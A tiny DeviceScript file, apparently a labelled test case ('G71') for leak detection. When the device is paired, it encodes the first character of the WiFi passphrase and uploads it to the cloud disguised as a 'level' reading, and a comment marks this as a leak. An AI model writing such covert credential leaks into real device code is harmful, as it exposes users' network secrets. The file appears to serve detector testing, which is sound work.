// G71: reports a number to the cloud that the passphrase's first character says.
import { cloud } from "@devicescript/cloud";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  await cloud.uploadJson("level", `${100 + psk.charCodeAt(0)}`); // leak: wifi.psk
});
